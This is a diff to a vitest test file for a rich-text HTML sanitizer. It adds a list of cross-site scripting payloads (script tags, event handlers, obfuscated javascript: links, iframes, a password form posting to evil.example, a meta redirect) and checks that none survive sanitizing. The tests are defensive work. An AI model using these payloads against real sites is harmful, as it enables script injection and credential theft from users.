@@ -1,4 +1,5 @@
 import { describe, expect, it } from "vitest";
+import { EDITOR_SAMPLE_HTML } from "~/components/studio/editor-output-sample";
 import { sanitizeRichText } from "./sanitize-html.server";
 
 describe("sanitizeRichText", () => {
@@ -75,5 +76,90 @@ describe("sanitizeRichText", () => {
     expect(sanitizeRichText('<a href="https://example.org">x</a>')).toBe(
       '<a href="https://example.org" rel="noopener noreferrer" target="_blank">x</a>',
     );
+  });
+
+  // What an author (or a forged save request) could put into a body. None of it may run
+  // script, load foreign content, restyle the page or post anywhere after sanitizing.
+  const payloads = [
+    "<script>alert(1)</script>",
+    '<SCRIPT SRC="https://evil.example/x.js"></SCRIPT>',
+    '<img src="https://a.example/x.png" alt="x" onerror="alert(1)">',
+    '<p onclick="alert(1)">x</p>',
+    '<body onload="alert(1)"><p>x</p></body>',
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JAVASCRIPT:alert(1)">x</a>',
+    '<a href="jav&#x61;script:alert(1)">x</a>',
+    '<a href="jav&#97;script&colon;alert(1)">x</a>',
+    '<a href=" &#x09;javascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<img src="data:image/svg+xml;base64,PHN2Zz4=" alt="x">',
+    '<img src="data:image/png;base64,iVBORw0KGgo=" alt="x">',
+    '<img src="javascript:alert(1)" alt="x">',
+    '<img src="//evil.example/x.png" alt="x">',
+    '<img src="http://evil.example/x.png" alt="x">',
+    "<svg><script>alert(1)</script></svg>",
+    '<svg onload="alert(1)"></svg>',
+    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+    '<iframe src="https://evil.example"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="https://evil.example/x.swf"></object>',
+    '<embed src="https://evil.example/x.swf">',
+    "<style>body{display:none}</style>",
+    '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
+    '<p class="hidden" id="main">x</p>',
+    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
+    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    '<base href="https://evil.example/">',
+    '<link rel="stylesheet" href="https://evil.example/x.css">',
+    '<a href="https://example.org" target="_top" rel="opener">x</a>',
+    '<td colspan="999" style="x">x</td>',
+  ];
+
+  it("lets none of the attack payloads through", () => {
+    for (const html of payloads) {
+      const clean = sanitizeRichText(html);
+      expect(clean, html).not.toMatch(
+        /<(script|svg|iframe|object|embed|style|form|input|button|meta|base|link|body)\b/i,
+      );
+      expect(clean, html).not.toMatch(
+        /\son\w+=|javascript:|vbscript:|data:|srcdoc|style=|class=|id=|xlink|colspan|src="(?!https:\/\/)|href="\/\//i,
+      );
+      expect(clean, html).not.toMatch(/rel="opener"|target="_top"/);
+    }
+  });
+
+  it("keeps entity-encoded script links as text, without their address", () => {
+    expect(sanitizeRichText('<a href="jav&#x61;script:alert(1)">x</a>')).toBe(
+      "<a>x</a>",
+    );
+  });
+
+  // The editor's whole output (app/components/studio/editor-output-sample.ts: every block and
+  // mark, a table with header cells, an image with alt text) comes back as it went in. Only
+  // what the sanitizer adds or spells differently is normalised: loading="lazy" on images,
+  // rel and target on external links, and void elements written "<br />" for the editor's
+  // "<br>" (the same element to an HTML parser).
+  it("keeps everything the editor emits, unchanged", () => {
+    const normalise = (html: string) =>
+      html
+        .replace(/ loading="lazy"/g, "")
+        .replace(/ rel="noopener noreferrer" target="_blank"/g, "")
+        .replace(/ \/>/g, ">");
+    const clean = sanitizeRichText(EDITOR_SAMPLE_HTML);
+    expect(normalise(clean)).toBe(EDITOR_SAMPLE_HTML);
+    expect(clean).toContain(
+      '<img src="https://media.example.org/chart.png" alt="Monthly spend by team, &quot;falling&quot; after March" loading="lazy" />',
+    );
+    expect(clean).toContain(
+      '<a href="https://example.org/report?a=1&amp;b=2" rel="noopener noreferrer" target="_blank">report</a>',
+    );
+    expect(clean).toContain('<a href="/insights/cloud-costs">insight</a>');
+    expect(clean).toContain("<th><p>Service</p></th>");
+  });
+
+  it("is stable: sanitizing its own output changes nothing", () => {
+    const once = sanitizeRichText(EDITOR_SAMPLE_HTML);
+    expect(sanitizeRichText(once)).toBe(once);
   });
 });
